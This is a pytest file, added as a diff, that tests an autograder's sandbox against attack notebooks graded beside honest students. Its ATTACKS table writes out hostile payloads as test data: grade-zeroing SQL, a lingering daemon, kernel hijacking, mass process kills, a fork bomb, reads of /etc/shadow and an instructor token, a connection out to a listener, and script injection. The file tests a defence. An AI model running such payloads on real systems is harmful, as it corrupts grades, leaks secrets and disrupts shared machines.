@@ -1,0 +1,360 @@
+"""The sandbox (autograder/sandbox.py) against a mischievous student: attack notebooks graded
+beside honest classmates, in one run. Each attack gains nothing (an otherwise empty notebook
+stays at 0 points), harms no classmate (their rows are exactly those of a run without the
+attackers), leaves no process and no file outside the run, and is named in the report where
+the sandbox saw it. Plus the sandbox's limits, one by one, on single kernels."""
+import csv
+import hashlib
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import psutil
+import pytest
+
+from autograder import course, notebooks, sandbox
+from tests.adversarial import _released
+
+A = "logits"
+HONEST = ("alice-correct", "bob-one-bug", "carol-untouched")
+SECRET = "instructor-secret-7f3a9c"
+DAEMON_DELAY = 4  # seconds the daemon waits before it strikes (after the run has ended)
+
+# name -> (the code of the attacker's `predict` solution cell, what the report must say of it
+# or None where the sandbox cannot see it: a path it cannot see is just not there)
+ATTACKS = {
+    "gradebook": ("""
+import sqlite3
+db = sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True)
+db.execute("UPDATE grade SET auto_score = 0")
+db.commit()
+""", None),
+    "daemon": ("""
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep({delay})
+        for path in ["{out}/grades.csv", "/tmp/{marker}-daemon"]:
+            try:
+                open(path, "w").write("hacked")
+            except OSError:
+                pass
+        os._exit(0)
+    os._exit(0)
+os.wait()
+open("/tmp/{marker}-tmp", "w").write("a file in the sandbox's private /tmp")
+""", "left 1 process"),
+    "classmates-kernels": ("""
+import glob, json, os
+from jupyter_client import BlockingKernelClient
+import ipykernel
+mine = os.path.realpath(ipykernel.get_connection_file())
+found = [f for f in glob.glob("{course}/kernels/*/connection.json")
+         + glob.glob("/tmp/**/*.json", recursive=True)
+         + glob.glob("/root/.local/share/jupyter/runtime/*.json")
+         if os.path.realpath(f) != mine]
+print("other kernels:", len(found))
+for f in found:
+    client = BlockingKernelClient(connection_file=f)
+    client.load_connection_file()
+    client.start_channels()
+    client.execute("open('/tmp/{marker}-zmq', 'w').write('x')")
+""", None),
+    "edits-checks": ("""
+open("{repo}/autograder/checks/logits.py", "a").write("\\nraise SystemExit\\n")
+""", None),
+    "kills": ("""
+import os, signal
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        os.kill(pid, signal.SIGSTOP)
+os.kill(0, signal.SIGSTOP)
+os.kill(-1, signal.SIGKILL)
+os.kill({test_pid}, signal.SIGSTOP)
+""", None),
+    "symlinks": ("""
+import os
+for name in ["logits.ipynb", "logits.html", "grades.csv"]:
+    if os.path.lexists(name):
+        os.remove(name)
+    os.symlink("{out}/grades.csv", name)
+os.symlink("{course}/gradebook.db", "/tmp/db")
+open("/tmp/db", "w").write("corrupt")
+""", None),
+    "fork-bomb": ("""
+import os, time
+for i in range(1000):
+    if os.fork() == 0:
+        time.sleep(1000)
+        os._exit(0)
+""", "reached the sandbox's limit of 64 processes"),
+    "background": ("""
+import subprocess
+subprocess.Popen(["sleep", "1000"])
+""", "left 1 process"),
+    "reads": ("""
+import os
+seen = {{}}
+for path in ["{repo}/autograder/checks/logits.py", "{repo}/autograder/checks/_common.py",
+             "{repo}/solutions/logits/logits.ipynb", "{course}/gradebook.db",
+             "{course}/submitted/alice-correct/logits/logits.ipynb", "/etc/shadow"]:
+    try:
+        seen[path] = open(path, "rb").read(100)
+    except OSError as err:
+        seen[path] = type(err).__name__
+print(seen)
+print(dict(os.environ))
+open("/etc/shadow").read()
+""", "tried what the sandbox refused (PermissionError"),
+    "network": ("""
+import socket
+socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"grades, please")
+""", "tried what the sandbox refused (OSError"),
+    "disk": ("""
+with open("big.bin", "wb") as f:
+    for i in range(300):
+        f.write(b"x" * 2**20)
+""", "reached the sandbox's limit of files of 64 MiB"),
+    "floods-and-scripts": ("""
+from IPython.display import HTML, Javascript, display
+display(HTML('<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">'))
+display(Javascript("window.pwned = 3"))
+display({{"application/json": {{"k": "x" * 30_000_000}}}}, raw=True)
+for i in range(3000):
+    display(i)
+raise ValueError("y" * 30_000_000)
+""", None),
+}
+
+
+def attacker(name: str) -> str:
+    return f"x-{name}"
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 (standing in for the internet) that counts connections."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.close()
+
+
+def run_grader(subs: Path, out: Path, *extra) -> dict:
+    env = dict(os.environ, INSTRUCTOR_API_TOKEN=SECRET)
+    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "--submissions",
+                           str(subs), "--out", str(out), "--assignment", A, "--cell-timeout",
+                           "10", "--timeout", "120", *extra],
+                          cwd=course.REPO, env=env, capture_output=True, text=True, timeout=900)
+    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+    with open(out / "grades.csv") as f:
+        return {row["student"]: row for row in csv.DictReader(f)}
+
+
+def copy_honest(subs: Path) -> None:
+    for student in HONEST:
+        shutil.copytree(course.EXAMPLES / student / A, subs / student / A)
+
+
+def checks_digest() -> str:
+    return hashlib.sha256(b"".join(p.read_bytes() for p in sorted(
+        (course.COURSE_ROOT / "checks").glob("*.py")))).hexdigest()
+
+
+def sandboxed_processes() -> list:
+    return [p.pid for p in psutil.process_iter(["uids"])
+            if p.info["uids"] and p.info["uids"].real >= sandbox.UID_BASE]
+
+
+def survivors(out: Path) -> list:
+    left = []
+    for proc in psutil.process_iter(["pid", "cmdline"]):
+        try:
+            if Path(proc.cwd()).is_relative_to(out):
+                left.append(proc.info)
+        except (psutil.NoSuchProcess, psutil.AccessDenied):
+            pass
+    return left
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    root = tmp_path_factory.mktemp("sandbox")
+    marker = f"autograder-attack-{os.getpid()}"
+    listener = Listener()
+    before = checks_digest()
+    copy_honest(root / "honest")
+    baseline = run_grader(root / "honest", root / "baseline")
+
+    subs, out = root / "subs", root / "out"
+    copy_honest(subs)
+    values = dict(course=out / "course", out=out, repo=course.REPO, marker=marker,
+                  port=listener.port, delay=DAEMON_DELAY, test_pid=os.getpid())
+    for name, (code, _) in ATTACKS.items():
+        nb = notebooks.fill(_released(), {"predict": code.strip().format(**values)})
+        path = subs / attacker(name) / A / f"{A}.ipynb"
+        path.parent.mkdir(parents=True)
+        path.write_text(json.dumps(nb))
+    # A submission folder with links in it: they are never copied, so never followed.
+    (subs / attacker("symlinks") / A / "data.csv").symlink_to(out / "course" / "gradebook.db")
+    (subs / attacker("symlinks") / A / "feedback").symlink_to(out)
+    started = time.monotonic()
+    rows = run_grader(subs, out)
+    seconds = time.monotonic() - started
+    time.sleep(max(0.0, DAEMON_DELAY + 1 - seconds))  # the daemon's time has come
+    return dict(baseline=baseline, rows=rows, out=out, marker=marker, listener=listener,
+                checks_before=before, grades_after=(out / "grades.csv").read_text())
+
+
+def test_honest_classmates_grades_are_exactly_those_of_a_run_without_attackers(attacked):
+    for student in HONEST:
+        assert attacked["rows"][student] == attacked["baseline"][student], student
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_each_attack_gains_nothing_and_is_named_where_seen(attacked, name):
+    row = attacked["rows"][attacker(name)]
+    assert float(row["total"]) == 0, row
+    expected = ATTACKS[name][1]
+    if expected:
+        assert expected in row["notes"], row
+        assert row["status"] == "needs review", row
+    assert attacker(name) in (attacked["out"] / "report.html").read_text()
+
+
+def test_nothing_outlives_the_run_and_nothing_is_written_outside_it(attacked):
+    out, marker = attacked["out"], attacked["marker"]
+    assert not survivors(out)
+    assert not sandboxed_processes()
+    for suffix in ("daemon", "tmp", "zmq"):
+        assert not Path(f"/tmp/{marker}-{suffix}").exists(), suffix
+    assert "hacked" not in (out / "grades.csv").read_text()
+    assert (out / "grades.csv").read_text() == attacked["grades_after"]
+    assert attacked["checks_before"] == checks_digest()
+    assert not list((out / "course" / "kernels").iterdir())  # every kernel's folder is gone
+
+
+def test_no_network_no_secrets_no_hidden_files(attacked):
+    out = attacked["out"]
+    assert attacked["listener"].connections == 0
+    graded = (out / "course" / "autograded" / attacker("reads") / A / f"{A}.ipynb").read_text()
+    assert SECRET not in graded
+    assert "def check_" not in graded and "BEGIN SOLUTION" not in graded
+    assert "FileNotFoundError" in graded  # the checks, the gradebook, others: not there at all
+    kernels = (out / "course" / "autograded" / attacker("classmates-kernels") / A
+               / f"{A}.ipynb").read_text()
+    assert "other kernels: 0" in kernels
+
+
+def test_links_in_a_submission_are_not_followed(attacked):
+    out = attacked["out"]
+    folder = out / "course" / "submitted" / attacker("symlinks") / A
+    assert not any(p.is_symlink() for p in folder.rglob("*"))
+    assert not any(p.is_symlink() for p in (out / "feedback").rglob("*"))
+    assert not (out / "grades.csv").is_symlink()
+
+
+def test_outputs_are_bounded_and_inert(attacked):
+    out = attacked["out"]
+    graded = out / "course" / "autograded" / attacker("floods-and-scripts") / A / f"{A}.ipynb"
+    assert graded.stat().st_size < 6_000_000
+    page = out / "feedback" / attacker("floods-and-scripts") / A / f"{A}.html"
+    if page.exists():
+        html = page.read_text()
+        assert len(html) < 8_000_000
+        assert "<script>window.pwned" not in html and "window.pwned = 3" not in html
+        assert "onerror" not in html
+
+
+def test_the_command_refuses_without_a_sandbox_and_says_how(tmp_path, monkeypatch):
+    """Where namespaces cannot be made, `grade` exits with a message naming the way out; with
+    --no-sandbox it grades, and says so on every row."""
+    from autograder import grade
+    monkeypatch.setattr(sandbox, "check", lambda: "unshare: Operation not permitted")
+    with pytest.raises(grade.SandboxUnavailable, match="--no-sandbox"):
+        grade.grade(tmp_path / "none", tmp_path / "out", [A], log=lambda *a: None)
+    subs = tmp_path / "subs"
+    shutil.copytree(course.EXAMPLES / "alice-correct" / A, subs / "alice-correct" / A)
+    rows = run_grader(subs, tmp_path / "out2", "--no-sandbox")
+    assert grade.UNSANDBOXED in rows["alice-correct"]["notes"]
+    assert "without the sandbox" in (tmp_path / "out2" / "report.html").read_text()
+
+
+# --- The limits, on single kernels ----------------------------------------------------------
+@pytest.fixture
+def limited(monkeypatch, tmp_path):
+    """Kernels forked from a template, in sandboxes with small limits."""
+    from jupyter_client.provisioning.factory import KernelProvisionerFactory
+
+    from autograder import forkkernel
+    limits = sandbox.Limits(memory=2 * 2 ** 30, processes=32, cpu=2, file_size=2 ** 20,
+                            disk=4 * 2 ** 20, open_files=64)
+    monkeypatch.setenv(sandbox.ENV, sandbox.setting(limits))
+    monkeypatch.setenv(sandbox.KERNELS, str(tmp_path / "kernels"))
+    forkkernel.use(["numpy"])
+    monkeypatch.setattr(KernelProvisionerFactory.instance(), "default_provisioner_name",
+                        forkkernel.NAME)
+    return limits
+
+
+def test_each_limit_stops_what_goes_past_it(limited, tmp_path):
+    from tests.test_forkkernel import execute
+    (tmp_path / "work").mkdir()
+    out = execute("import os\nprint(os.getuid() >= 1_000_000_000 or os.getuid() == os.geteuid(),"
+                  " os.getpid())",
+                  "fs = [open('/dev/null') for _ in range(100)]",
+                  "open('f', 'wb').write(b'x' * 2**21)",
+                  "open('/tmp/f1', 'wb').write(b'x' * 2**19)\n"
+                  "[open(f'/tmp/g{i}', 'wb').write(b'x' * 2**19) for i in range(20)]",
+                  "import threading, time\n"
+                  "[threading.Thread(target=time.sleep, args=(5,)).start() for _ in range(64)]",
+                  "b = bytearray(3 * 2**30)",
+                  cwd=tmp_path / "work", timeout=20, allow_errors=True)
+    assert out[0] == ["True 2"]  # its own uid; process 2 of its PID namespace, after init
+    assert out[1] == ["OSError"]             # [Errno 24] Too many open files
+    assert out[2] == ["OSError"]             # [Errno 27] File too large
+    assert out[3] == ["OSError"]             # [Errno 28] No space left on device
+    assert out[4] == ["RuntimeError"]        # can't start new thread
+    assert out[5] == ["MemoryError"]
+    assert not (tmp_path / "work" / "f").exists()  # the scratch folder was a copy
+
+
+def test_a_kernel_past_its_cpu_time_is_stopped(limited, tmp_path):
+    from nbclient.exceptions import DeadKernelError
+
+    from autograder import forkkernel
+    from tests.test_forkkernel import execute
+    with pytest.raises(DeadKernelError):
+        execute("while True:\n    pass", cwd=tmp_path, timeout=20)
+    assert sandbox.limit_reached(sandbox.CPU_EXIT) == "the sandbox's CPU-time limit (2 s)"
+    assert forkkernel.ENDINGS[str(tmp_path)] == "the sandbox's CPU-time limit (2 s)"
+
+
+def test_two_kernels_share_nothing(limited, tmp_path):
+    from tests.test_forkkernel import execute
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    probe = ("import os\nopen('mine', 'w').write('x')\nopen('/tmp/mine', 'w').write('x')\n"
+             "print(sorted(os.listdir('.')), sorted(os.listdir('/tmp')), os.getpid(), "
+             "sorted(p for p in os.listdir('/proc') if p.isdigit()))")
+    first = execute(probe, cwd=tmp_path / "a")
+    second = execute(probe, cwd=tmp_path / "b")
+    assert first == second  # each its own folder, /tmp and PID namespace (in which it is 1)
+    assert first[0][0].startswith("['mine'] [") and first[0][0].endswith(" 2 ['1', '2']")
